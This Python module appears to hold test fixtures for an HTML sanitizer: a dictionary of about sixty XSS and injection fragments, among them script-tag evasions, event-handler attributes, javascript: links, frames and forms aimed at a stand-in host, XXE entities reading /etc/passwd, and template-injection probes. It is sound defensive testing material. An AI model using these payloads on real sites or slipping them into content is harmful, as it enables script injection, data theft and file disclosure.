"""Narratives that are meant to run something in the reader's browser, or to have it call somebody.

What would run sets ``window.ran``; what would be called is at evil.invalid.
https://cheatsheetseries.owasp.org/cheatsheets/XSS_Filter_Evasion_Cheat_Sheet.html
https://html.spec.whatwg.org/multipage/parsing.html
"""

RUN = "window.ran=1"
AT = "https://evil.invalid/x"
IMAGE = f"&lt;img src=1 onerror={RUN}&gt;"
FRAGMENTS: dict[str, str] = {
    "script": f"<script>{RUN}</script>",
    "script in capitals": f"<SCRIPT>{RUN}</SCRIPT>",
    "script from elsewhere": f'<script src="{AT}.js"></script>',
    "script as a module": f'<script type="module">import "{AT}.js"</script>',
    "script within script": f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    "script that does not end": f"<script>{RUN}",
    "script with a slash": f"<script/x>{RUN}</script>",
    "script in an escape": f"&lt;script&gt;{RUN}&lt;/script&gt;",
    "script in a double escape": f"&amp;lt;script&amp;gt;{RUN}&amp;lt;/script&amp;gt;",
    "script in numbers": f"&#60;script&#62;{RUN}&#x3c;/script&#x3e;",
    "script in CDATA": f"<![CDATA[<script>{RUN}</script>]]>",
    "script behind CDATA": f"<![CDATA[]]]]><![CDATA[>]]><script>{RUN}</script>",
    "script behind a comment": f"<!--><script>{RUN}</script>-->",
    "script behind an odd comment": f"<!--!--!><script>{RUN}</script><!-- -->",
    "script in a conditional comment": f"<!--[if true]><script>{RUN}</script><![endif]-->",
    "script in a processing instruction": f"<?x ><script>{RUN}</script>?>",
    "script in its own namespace": f'<x:script xmlns:x="http://www.w3.org/1999/xhtml">{RUN}</x:script>',
    "an image that fails": f'<img src="x" onerror="{RUN}"/>',
    "an image from elsewhere": f'<img src="{AT}.png"/>',
    "an image in several sizes": f'<img srcset="{AT}.png 1x" src="#"/>',
    "an image with a lone quote": f'<img """><script>{RUN}</script>"/>',
    "an element that is moved over": f'<p onmouseover="{RUN}" style="position:fixed;inset:0">over</p>',
    "an element that takes the focus": f'<input autofocus="" onfocus="{RUN}"/>',
    "an element that opens": f'<details open="" ontoggle="{RUN}"><summary>x</summary></details>',
    "a body that loads": f'<body onload="{RUN}">x</body>',
    "a svg that loads": f'<svg onload="{RUN}"/>',
    "script in svg": f"<svg><script>{RUN}</script></svg>",
    "svg that moves": f'<svg><animate onbegin="{RUN}" attributeName="x" dur="1s"/></svg>',
    "svg that uses": f'<svg><use href="{AT}.svg#x"/></svg>',
    "svg that holds HTML": f'<svg><foreignObject><iframe srcdoc="&lt;script&gt;parent.{RUN}&lt;/script&gt;"/></foreignObject></svg>',
    "math that links": f'<math href="javascript:{RUN}">x</math>',
    "math that changes its mind": f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;{IMAGE}'/></mglyph></table></mtext></math>",
    "style that imports": f"<style>@import '{AT}.css';</style>",
    "style in an attribute": f"<p style=\"background:url('{AT}.png')\">x</p>",
    "style that hides the page": "<style>main{display:none}</style>",
    "a link that runs": f'<a href="javascript:{RUN}">x</a>',
    "a link that runs, with a tab": f'<a href="java&#9;script:{RUN}">x</a>',
    "a link that runs, with blanks": f'<a href=" &#1; javascript:{RUN}">x</a>',
    "a link to data": f'<a href="data:text/html,&lt;script&gt;{RUN}&lt;/script&gt;">x</a>',
    "a link that is fetched before": f'<link rel="prefetch" href="{AT}"/>',
    "a style sheet": f'<link rel="stylesheet" href="{AT}.css"/>',
    "a page that goes elsewhere": f'<meta http-equiv="refresh" content="0;url={AT}"/>',
    "another policy": '<meta http-equiv="Content-Security-Policy" content="script-src *"/>',
    "another base": f'<base href="{AT}/"/>',
    "a form": f'<form action="{AT}"><button>Approve</button></form>',
    "a button of our form": f'<button form="f" formaction="{AT}">Approve</button>',
    "a frame": f'<iframe src="{AT}"/>',
    "a frame that runs": f'<iframe src="javascript:parent.{RUN}"/>',
    "a frame with its own page": f'<iframe srcdoc="&lt;script&gt;parent.{RUN}&lt;/script&gt;"/>',
    "an object": f'<object data="{AT}"/>',
    "an embedded thing": f'<embed src="{AT}"/>',
    "a video": f'<video poster="{AT}.png" autoplay=""><source src="{AT}" onerror="{RUN}"/></video>',
    "a sound": f'<audio src="{AT}" autoplay="" onerror="{RUN}"/>',
    "a ping": f'<a href="#" ping="{AT}">x</a>',
    "a template": f"<template><script>{RUN}</script></template>",
    "no script": f'<noscript><p title="</noscript><img src=x onerror={RUN}>">x</p></noscript>',
    "a title that ends early": f"</title></textarea></style></script><script>{RUN}</script>",
    "the end of our page": f"</p></div></main></body></html><script>{RUN}</script>",
    "entities that grow": '<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;">]>&b;',
    "an entity from elsewhere": f'<!DOCTYPE x [<!ENTITY a SYSTEM "{AT}">]>&a;',
    "a file of this machine": '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>&a;',
    "text of a template": "{{ 7 * 7 }} {% raw %} ${7*7} #{7*7}",
    "NUL": f"<scr\x00ipt>{RUN}</scr\x00ipt>",
    "another alphabet": f"＜script＞{RUN}＜/script＞ \u202e\u2066 \ufeff",
}


def as_div(fragment: str) -> str:
    """A narrative around a fragment; what begins with a document type stands alone, as it would have to."""
    if fragment.startswith("<!DOCTYPE"):
        head, _, rest = fragment.rpartition(">")
        return f'{head}><div xmlns="http://www.w3.org/1999/xhtml">{rest}</div>'
    return f'<div xmlns="http://www.w3.org/1999/xhtml"><p>before</p>{fragment}<p>behind</p></div>'
